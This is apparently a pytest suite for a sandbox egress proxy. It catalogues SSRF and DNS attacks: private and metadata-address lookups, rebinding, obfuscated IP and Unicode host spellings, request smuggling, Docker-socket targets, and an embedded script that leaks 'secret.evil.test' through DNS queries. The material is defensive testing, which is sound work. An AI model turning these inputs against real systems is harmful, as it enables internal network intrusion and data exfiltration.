"""Attacks 1 to 29, 31, 39 and 48 to 55 of the list, end to end: a real proxy, real name servers, and a capture."""
import pytest

from ears import PORT, Ears
from internet import ALLOWED, CORP, DNS, EVIL, MACHINE, MACHINE_6, MACHINE_CORP, METADATA
from names import NOERROR, NXDOMAIN, SERVFAIL, SILENT
from wall_engine import Plain
from wall_house import ask_proxy, connect, get, status_and_reason

REFUSED = "403 resolved_address_denied"
PRIVATE = ["127.0.0.1", "127.8.8.8", "0.0.0.0", METADATA, CORP, "100.64.0.1", "100.100.100.200", "168.63.129.16",
           "172.17.0.1", "192.168.0.1", "198.18.0.1", "224.0.0.1", "240.0.0.1", "255.255.255.255", "::1",
           "::ffff:169.254.169.254", "64:ff9b::a9fe:a9fe", "2002:a9fe:a9fe::1", "fe80::1", "fd00::1", "ff02::1"]


def told_of(sandbox, requests):
    return dict(zip(requests, map(status_and_reason, ask_proxy(sandbox, requests))))


def test_22_a_name_is_not_dialled_where_it_leads_to_a_private_address(internet, walled):
    urls = []
    for i, address in enumerate(PRIVATE):
        internet.dns.answers[f"p{i}.w.test"] = [address]
        urls += [f"http://p{i}.w.test/", f"p{i}.w.test:443"]
    names = [f"p{i}.w.test" for i in range(len(PRIVATE))]
    with internet.only(names=names):
        told = told_of(walled, [get(url) if url.startswith("http") else connect(url) for url in urls])
    assert set(told.values()) == {REFUSED}, told
    assert set(internet.dns.asked()) == set(names)


def test_22_a_name_is_not_dialled_where_it_leads_to_an_address_of_the_machine(internet, walled):
    """Its public ones too, which no class of addresses tells from others."""
    ears = Ears()
    try:
        own = [MACHINE, MACHINE_CORP, MACHINE_6, "172.17.0.1"]
        for i, address in enumerate(own):
            internet.dns.answers[f"h{i}.m.test"] = [address]
        told = told_of(walled, [get(f"http://h{i}.m.test:{PORT}/") for i in range(len(own))])
        assert ears.heard == [], told
        assert set(told.values()) <= {REFUSED, "502"}, told
        assert [told[get(f"http://h{i}.m.test:{PORT}/")] for i in (0, 1, 3)] == [REFUSED] * 3, told
    finally:
        ears.close()


def test_23_the_address_that_was_judged_is_dialled_though_the_name_changes_its_mind(internet, walled):
    internet.dns.answers["r.w.test"] = lambda count: [ALLOWED] if count == 0 else [METADATA]
    with internet.only((ALLOWED, 80), names=["r.w.test"]):
        told = ask_proxy(walled, [get("http://r.w.test/")])[0]
        assert told.endswith(f"reached {ALLOWED}\n")
        assert internet.dns.asked() == ["r.w.test"], "more than one look-up for one request"
        # What may be sent twice goes over the connection that stands, to the address that was judged.
        assert ask_proxy(walled, [get("http://r.w.test/")])[0].endswith(f"reached {ALLOWED}\n")
        assert internet.dns.asked() == ["r.w.test"]
        again = get("http://r.w.test/").replace("GET", "POST", 1)
        assert status_and_reason(ask_proxy(walled, [again])[0]) == REFUSED


def test_24_of_a_mixed_answer_only_the_public_address_is_dialled(internet, walled):
    internet.dns.answers["mixed.w.test"] = [METADATA, CORP, "127.0.0.1", ALLOWED]
    with internet.only((ALLOWED, 80), names=["mixed.w.test"]):
        assert ask_proxy(walled, [get("http://mixed.w.test/")])[0].endswith(f"reached {ALLOWED}\n")
    assert "mixed.w.test" in {line["host"] for line in walled.denied()}


def test_26_an_alias_is_judged_by_where_it_ends(internet, walled):
    internet.dns.answers.update({"in.w.test": ["internal.corp", CORP], "out.w.test": ["cdn.example.net", ALLOWED]})
    with internet.only((ALLOWED, 80), names=["in.w.test", "out.w.test"]):
        told = ask_proxy(walled, [get("http://in.w.test/"), get("http://out.w.test/")])
    assert status_and_reason(told[0]) == REFUSED and told[1].endswith(f"reached {ALLOWED}\n"), told


def test_27_a_name_server_that_fails_is_waited_for_no_longer_than_the_limit(internet, walled):
    # Names of its own: a connection that another test's request left would serve it without a look-up.
    answers = {"silent": SILENT, "servfail": SERVFAIL, "empty": NOERROR, "none": [],
               "many": [f"169.254.{i // 250}.{i % 250 + 1}" for i in range(2000)]}
    internet.dns.answers.update({f"{name}.fails.w.test": answer for name, answer in answers.items()})
    with internet.only(names=[f"{name}.fails.w.test" for name in answers]):
        told = told_of(walled, [get(f"http://{name}.fails.w.test/") for name in answers])
    codes = {name: told[get(f"http://{name}.fails.w.test/")].split(" ")[0] for name in answers}
    assert codes == {"silent": "504", "servfail": "502", "empty": "502", "none": "502", "many": "403"}, told


SPELLINGS = [  # number, authority of a CONNECT
    (3, "ok.test..:443"), (4, "a.ok.test:443"), (5, "w.test:443"), (5, ".w.test:443"), (6, "notok.test:443"),
    (6, "ok.test.evil.test:443"), (6, "xw.test:443"), (7, "\xef\xbd\x8fk.test:443"), (7, "ok\xe3\x80\x82test:443"),
    (7, "o\xe2\x84\xaa.test:443"), (7, "o\xc2\xadk.test:443"), (8, "xn--k-wga.test:443"), (9, "ok%2etest:443"),
    (10, "evil.test\0.w.test:443"), (10, "ok.test\0.evil.test:443"), (12, "evil.test#.ok.test:443"),
    (12, "evil.test\\@ok.test:443"), (12, "evil.test?.ok.test:443"), (12, "evil.test@ok.test:443"),
    (14, "ok.test:443abc"), (14, "ok.test:+443"), (14, "ok.test:0"), (14, "ok.test:65979"), (14, "ok.test:-1"),
    (14, "ok.test"), (15, "ok.test:22"), (16, f"{EVIL}:443"), (17, "2130706433:443"), (17, "0x7f.1:443"),
    (17, "0177.0.0.1:443"), (17, "127.1:443"), (17, "127.0.0.1.:443"), (17, "[::ffff:127.0.0.1]:443"),
    (17, "[::1%eth0]:443"), (17, "[fe80::1%25lo]:443"), (21, "c2VjcmV0.evil.test:443"), (31, "redis:443"),
    (39, "localhost:3128"), (39, "127.0.0.1:3128"), (39, "[::1]:3128"), (39, "host.docker.internal:80"),
    (39, "unix:/var/run/docker.sock"), (39, "/var/run/docker.sock:80"), (39, f"{MACHINE}:{PORT}"),
    (39, f"{METADATA}:80"), (41, "ok.test:25")]
REQUESTS = [  # number, request
    (46, "\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03"), (48, "GET http://evil.test/ HTTP/1.1\r\nHost: ok.test\r\nConnection: close\r\n\r\n"),
    (48, f"GET http://{METADATA}/latest/ HTTP/1.1\r\nHost: ok.test\r\nConnection: close\r\n\r\n"), (49, "GET / HTTP/1.1\r\nHost: ok.test\r\n\r\n"),
    (52, "POST http://ok.test/ HTTP/1.1\r\nHost: ok.test\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n"),
    (53, "GET http://ok.test/ HTTP/1.1\r\nHost : ok.test\r\n\r\n"), (53, "GET http://ok.test/ HTTP/1.1\nHost: ok.test\n\n"),
    (55, "GET https://ok.test/ HTTP/1.1\r\nHost: ok.test\r\n\r\n"), (55, "GET ftp://ok.test/ HTTP/1.1\r\nHost: ok.test\r\n\r\n"),
    (55, "GET unix://var/run/docker.sock HTTP/1.1\r\nHost: ok.test\r\n\r\n"), (57, "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"),
    (58, "TRACE http://ok.test/ HTTP/1.1\r\nHost: ok.test\r\n\r\n")]
# The control's own requests, which a sandbox must not be able to make: it asks on the proxy's one port.
CONTROL = ["/health", "/denied", "/stats", "/narrow", "/secrets"]


def test_3_to_58_no_spelling_of_a_target_makes_the_proxy_send_a_packet(internet, walled):
    rows = [connect(authority) for _, authority in SPELLINGS] + [request for _, request in REQUESTS]
    with internet.only():
        answers = ask_proxy(walled, rows)
    wrong = [(row, answer) for row, answer in zip(rows, answers)
             if status_and_reason(answer).split(" ")[0] not in ("400", "403", "405", "431")]
    assert wrong == []
    assert internet.dns.queries == internet.machine_dns.queries == []


def test_the_proxys_control_is_not_on_the_port_that_the_sandbox_reaches(internet, walled):
    rows = [f"{method} {path} HTTP/1.1\r\nHost: x\r\nContent-Length: 0\r\n\r\n" for path in CONTROL
            for method in ("GET", "POST", "PUT")]
    with internet.only():
        answers = ask_proxy(walled, rows)
    assert {status_and_reason(answer).split(" ")[0] for answer in answers} == {"400"}, answers


def test_28_29_no_name_leaves_by_the_engines_resolver_or_the_proxys_name_service(internet, own, walled):
    look_up = ("import socket,sys\nq=b'\\x12\\x34\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0\\6secret\\4evil\\4test\\0\\0\\1\\0\\1'\n"
               "for to in sys.argv[1:]:\n"
               "  for kind in (1, 2):\n"
               "    try:\n"
               "      s=socket.socket(2,kind); s.settimeout(1.5); s.connect((to,53))\n"
               "      s.sendall(q if kind==2 else b'\\0'+bytes([len(q)])+q); s.recv(500)\n"
               "    except OSError: pass\n"
               "print(1)")
    proxy, _ = walled.proxy()
    with internet.only():
        walled.python(look_up, "127.0.0.11", "127.0.0.1", "127.0.0.53", proxy, DNS, "8.8.8.8", user="root")
        walled.shell("getent hosts leak.evil.test; getent hosts ok.test", user="root")
    assert internet.dns.queries == internet.machine_dns.queries == []
    # On this engine a plain internal network does leak: the engine asks the machine's resolver for it.
    version = own.call("GET", "/version")["Version"]
    network = own.call("POST", "/networks/create", {"Name": "wall-control", "Internal": True})["Id"]
    control = Plain(own, network)
    try:
        control.run(["python3", "-", "127.0.0.11"], text=look_up)
        if not version.startswith("20."):
            pytest.skip(f"engine {version} asks nobody for an internal network")
        assert "secret.evil.test" in internet.machine_dns.asked()
    finally:
        control.close()
        own.call("DELETE", f"/networks/{network}")


def test_31_no_search_domain_and_no_name_of_the_engine_is_looked_up(internet, walled):
    internet.dns.answers.update({"redis": [ALLOWED], "gone.w.test": NXDOMAIN})
    with internet.only(names=["gone.w.test"]):
        told = told_of(walled, [get("http://gone.w.test/"), get("http://redis/")])
    assert told[get("http://redis/")].startswith("4"), told
    assert set(internet.dns.asked()) <= {"gone.w.test"}


def test_51_each_request_of_a_kept_connection_is_judged_by_itself(internet, walled):
    both = ("GET http://ok.test/1 HTTP/1.1\r\nHost: ok.test\r\n\r\n"
            "GET http://evil.test/2 HTTP/1.1\r\nHost: ok.test\r\nConnection: close\r\n\r\n")
    with internet.only((ALLOWED, 80), names=["ok.test"]):
        answer = ask_proxy(walled, [both, both.replace("GET http://evil.test/2", "CONNECT evil.test:443")])
    for told in answer:
        assert f"reached {ALLOWED}" in told and "reason=not_in_allow_list" in told, answer
    assert {visit[3] for visit in internet.web.visits} == {"/1"}
